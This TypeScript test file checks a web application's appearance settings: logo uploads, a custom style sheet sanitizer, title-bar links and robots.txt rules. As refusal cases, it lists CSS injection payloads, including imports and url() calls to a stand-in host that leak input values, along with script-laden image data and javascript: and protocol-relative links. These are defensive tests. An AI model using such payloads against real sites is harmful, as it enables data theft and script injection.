import sharp from 'sharp'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { aSignedInUser } from '#modules/users/users.builders.ts'
import { operator } from '#modules/viewers/viewer.builders.ts'
import { SettingRefused } from '#platform/database/site-settings.ts'
import { administrator, type Person, visitor } from '#server/testing/ask.ts'
import { onBothEngines, openTestServer, type TestServer } from '#server/testing/open-test-server.ts'
import { logos } from './appearance.paths.ts'
import { checkCss } from './check-css.ts'
import { setTitleBar } from './title-bar.ts'

let server: TestServer
beforeAll(async () => {
  server = await openTestServer('sqlite')
})
afterAll(() => server.close())

test('every logo that the descriptor names is a picture', async () => {
  const { appearance } = await visitor(server).read('/fotoweb/', 'api-descriptor')
  const named = [
    appearance.mainLogo,
    appearance.mobileLogo,
    appearance.loginLogo,
    appearance.homepageImage,
    appearance.favicon,
  ]
  expect(named).toEqual(logos.map((logo) => `/fotoweb/appearance/logos/${logo}`))
  for (const href of named) {
    const answer = await visitor(server).ask(href)
    expect([answer.statusCode, answer.headers['content-type']]).toEqual([200, 'image/svg+xml'])
    expect(answer.body).toMatch(/^<svg [^>]*viewBox="0 0 \d+ \d+"[^>]*>.*<\/svg>$/)
    expect(answer.body).not.toMatch(/script|onload|href|style/)
  }
  expect((await visitor(server).refused('/fotoweb/appearance/logos/other')).status).toBe(404)
})

test('a logo of the site stands for those of the wire, is known by its mark, and the dark theme has its own', async () => {
  const boss = await administrator(server)
  const png = async (shade: string) =>
    sharp({ create: { width: 90, height: 30, channels: 4, background: shade } })
      .png()
      .toBuffer()
  const [logo, darkLogo] = [await png('#8a1c4a'), await png('#ffffff')]
  const address = (bytes: Buffer) => `data:image/png;base64,${bytes.toString('base64')}`
  const put = (look: object) =>
    boss.ask('/fotoweb/api/config/site/look', {
      method: 'PUT',
      headers: { 'content-type': 'application/json' },
      payload: JSON.stringify({ value: { accent: null, logo: null, darkLogo: null, ...look } }),
    })
  expect((await put({ logo: address(logo) })).statusCode).toBe(200)
  const { ownLogo: alone } = (await visitor(server).read('/fotoweb/', 'api-descriptor')).appearance
  expect((await visitor(server).ask(alone?.dark ?? '')).rawPayload).toEqual(logo)
  expect((await put({ logo: address(logo), darkLogo: address(darkLogo) })).statusCode).toBe(200)
  const { appearance } = await visitor(server).read('/fotoweb/', 'api-descriptor')
  expect((await visitor(server).read('/fotoweb/services/ways-in', 'ways-in')).ownLogo).toEqual(appearance.ownLogo)
  for (const [href, bytes] of [
    [appearance.mainLogo, logo],
    [appearance.loginLogo, logo],
    [appearance.ownLogo?.light ?? '', logo],
    [appearance.ownLogo?.dark ?? '', darkLogo],
  ] as const) {
    const answer = await visitor(server).ask(href)
    expect([answer.headers['content-type'], answer.headers['x-content-type-options']]).toEqual(['image/png', 'nosniff'])
    expect(answer.rawPayload).toEqual(bytes)
    const again = { headers: { 'if-none-match': String(answer.headers.etag) } }
    expect((await visitor(server).ask(href, again)).statusCode).toBe(304)
  }
  // What is no picture that a header could show is refused at its field, and the one before stays.
  const tall = await sharp({ create: { width: 2, height: 1601, channels: 3, background: '#000' } })
    .png()
    .toBuffer()
  const refused: [object, string][] = [
    [{ logo: 'https://example.org/logo.png' }, 'logo'],
    [{ logo: `data:image/svg+xml;base64,${Buffer.from('<svg/>').toString('base64')}` }, 'logo'],
    [{ darkLogo: address(Buffer.from('<script>alert(1)</script>'.repeat(9))) }, 'darkLogo'],
    [{ logo: address(Buffer.concat([logo, Buffer.from('<script>')])) }, 'logo'],
    [{ logo: address(logo.subarray(0, 60)) }, 'logo'],
    [{ logo: address(tall) }, 'logo'],
    [{ logo: `${address(logo)}\n` }, 'logo'],
    [{ logo: address(Buffer.alloc(150_001)) }, 'logo'],
    [{ accent: 'red; } * { display: none' }, 'accent'],
    [{ accent: '#12' }, 'accent'],
  ]
  for (const [look, field] of refused) {
    const answer = await put(look)
    expect([answer.statusCode, answer.json().fields?.[0]?.field], JSON.stringify(look).slice(0, 80)).toEqual([
      400,
      field,
    ])
  }
  expect((await visitor(server).ask(appearance.mainLogo)).rawPayload).toEqual(logo)
  expect((await put({ darkLogo: address(darkLogo) })).statusCode).toBe(200)
  expect((await visitor(server).ask(appearance.mainLogo)).rawPayload).toEqual(darkLogo)
  expect((await put({})).statusCode).toBe(200)
  expect((await visitor(server).read('/fotoweb/', 'api-descriptor')).appearance.ownLogo).toBeNull()
  expect((await visitor(server).refused('/fotoweb/appearance/logos/own-light')).status).toBe(404)
})

test('the style sheet is one, for everybody, and asked again with each page', async () => {
  const answer = await visitor(server).ask('/fotoweb/appearance/css')
  expect([answer.statusCode, answer.headers['content-type']]).toEqual([200, 'text/css; charset=utf-8'])
  expect(answer.headers['cache-control']).toBe('public, no-cache')
  const again = { headers: { 'if-none-match': String(answer.headers.etag) } }
  expect((await visitor(server).ask('/fotoweb/appearance/css', again)).statusCode).toBe(304)
})

test.each([
  '@import "//evil.example/x.css";',
  '@IMPORT url(x);',
  '@\\69mport "x";',
  'input[value^="a"] { background: url(//evil.example/a) }',
  'a { background: u\\72l("x") }',
  'a { --x: URL( x ) }',
  'a { background-image: image-set("x" 1x) }',
  'a { background: -webkit-image-set("x" 1x) }',
  '@font-face { font-family: x; src: local(x) }',
  'a { width: expression(alert(1)) }',
  'a { behavior: none }',
  'a { -moz-binding: none }',
  '<!-- a {} -->',
  `/* ${'x'.repeat(200_000)} */`,
])('a sheet that could fetch or run something is refused: %.40s (attack case 87)', (css) => {
  expect(() => checkCss(css)).toThrow(SettingRefused)
})

test('a sheet that only styles is taken as it is', () => {
  const sheet = ':root { --accent: #a03; } .x::before { content: "\\2014 url(no)" } @media print { a { color: red } }'
  expect(() => checkCss(sheet)).not.toThrow()
})

onBothEngines('the look of a site', (open) => {
  let own: TestServer
  let boss: Person
  beforeAll(async () => {
    own = await open()
    boss = await administrator(own)
  })
  afterAll(() => own.close())

  const sheet = async () => (await visitor(own).ask('/fotoweb/appearance/css')).body
  const send = (viewer: Person, cssContent: string | null) =>
    viewer.ask('/fotoweb/appearance/css', { method: 'POST', payload: { cssContent } })
  const descriptor = (viewer: Person) => viewer.read('/fotoweb/me', 'full-api-descriptor')

  test('its style sheet is set and cleared by those who may, and clearing is offered while there is one [THM-009]', async () => {
    const kari = await aSignedInUser(own, 'kari')
    expect((await descriptor(boss)).appearance.clearCss).toBeNull()
    expect((await send(boss, ':root { --accent: #a03 }')).statusCode).toBe(204)
    expect(await sheet()).toBe(':root { --accent: #a03 }')
    expect((await descriptor(boss)).appearance.clearCss).toBe('/fotoweb/appearance/css')
    expect((await descriptor(kari)).appearance.clearCss).toBeNull()
    expect((await send(visitor(own), null)).statusCode).toBe(401)
    expect((await send(kari, null)).statusCode).toBe(403)
    expect((await send(boss, 'a { color: url(x) }')).statusCode).toBe(400)
    expect(await sheet()).toBe(':root { --accent: #a03 }')
    expect((await send(boss, null)).statusCode).toBe(204)
    expect(await sheet()).toContain('no styles of its own')
    expect((await descriptor(boss)).appearance.clearCss).toBeNull()
  })

  test('its buttons stand in the descriptors of everybody [HDR-007]', async () => {
    const buttons = [
      { label: 'Intranet', href: 'https://intranet.example.org/', icon: 'globe' },
      { label: 'Help', href: '/fotoweb/archives/' },
    ]
    expect((await visitor(own).read('/fotoweb/', 'api-descriptor')).titleBar).toEqual([])
    await setTitleBar(operator, JSON.stringify(buttons), own.platform)
    const told = [buttons[0], { ...buttons[1], icon: 'link' }]
    expect((await visitor(own).read('/fotoweb/', 'api-descriptor')).titleBar).toEqual(told)
    expect((await descriptor(boss)).titleBar).toEqual(told)
    await setTitleBar(operator, null, own.platform)
    expect((await descriptor(boss)).titleBar).toEqual([])
  })

  test.each(['javascript:alert(1)', '//evil.example', '/\\\\evil.example', 'data:text/html,x', 'intranet'])(
    'a button to %s is refused',
    async (href) => {
      const given = JSON.stringify([{ label: 'x', href }])
      await expect(setTitleBar(operator, given, own.platform)).rejects.toThrow(SettingRefused)
    },
  )
})

onBothEngines('what search engines may list', (open) => {
  test('is nothing until the site says otherwise; what is one’s own and links with keys never is', async () => {
    const site = await open()
    const boss = await administrator(site)
    const listed = async () => {
      const answer = await visitor(site).ask('/robots.txt')
      expect([answer.statusCode, answer.headers['content-type']]).toEqual([200, 'text/plain; charset=utf-8'])
      const [agents, ...rules] = answer.body.trimEnd().split('\n')
      expect(agents).toBe('User-agent: *')
      return rules
    }
    const say = async (value: string | null, by: Person = boss) => {
      const headers = { 'content-type': 'application/json' }
      const payload = JSON.stringify({ value })
      return (await by.ask('/fotoweb/api/config/site/searchEngines', { method: 'PUT', headers, payload })).statusCode
    }
    expect(await listed()).toEqual(['Disallow: /'])
    expect(await say('home')).toBe(200)
    expect(await listed()).toEqual(
      expect.arrayContaining(['Allow: /fotoweb/$', 'Allow: /fotoweb/site/', 'Disallow: /']),
    )
    expect(await say('everything')).toBe(200)
    expect(await listed()).toEqual(
      ['send', 'me', 'api', 'services', 'albums'].map((part) => `Disallow: /fotoweb/${part}/`),
    )
    expect(await say('some')).toBe(400)
    expect(await listed()).toHaveLength(5)
    expect(await say(null, await aSignedInUser(site, 'kari'))).toBe(403)
    expect(await say(null)).toBe(200)
    expect(await listed()).toEqual(['Disallow: /'])
  })
})
